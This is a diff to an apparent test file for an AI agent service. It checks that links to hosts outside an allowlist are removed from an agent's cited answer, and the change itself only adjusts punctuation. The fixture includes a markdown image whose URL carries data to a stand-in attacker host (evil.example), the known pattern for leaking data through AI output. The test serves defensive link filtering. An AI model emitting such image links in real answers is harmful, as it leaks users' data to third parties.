@@ -6,8 +6,8 @@ import { answer, conversations, script, useAgent } from './agent-service.ts';
 const agent = useAgent();
 const site = useSite(agent.service);
 
-const SAID = `The safe ![x](https://evil.example/p?d=premium) opens: [how](https://evil.example/how), see [the guide](https://guide.example/safe#open), [help](https://help.good.example/), https://evil.example/c.`;
-const TOLD = `The safe  opens: how, see [the guide](https://guide.example/safe#open), [help](https://help.good.example/), (link removed).`;
+const SAID = `The safe ![x](https://evil.example/p?d=premium) opens: [how](https://evil.example/how). See [the guide](https://guide.example/safe#open), [help](https://help.good.example/), https://evil.example/c.`;
+const TOLD = `The safe  opens: how. See [the guide](https://guide.example/safe#open), [help](https://help.good.example/), (link removed).`;
 
 beforeAll(async () => {
   await new Admin(agent.service).updateSite(site.id, { linkHosts: ['*.good.example'] });
@@ -25,7 +25,7 @@ beforeAll(async () => {
       text: SAID,
       citations: [
         { start: 0, end: 8, documentIds: [documents[0]?.id ?? ''] },
-        { start: SAID.indexOf('[how]'), end: SAID.indexOf(', see'), documentIds: [documents[0]?.id ?? ''] },
+        { start: SAID.indexOf('[how]'), end: SAID.indexOf('. See'), documentIds: [documents[0]?.id ?? ''] },
       ],
     }),
   });
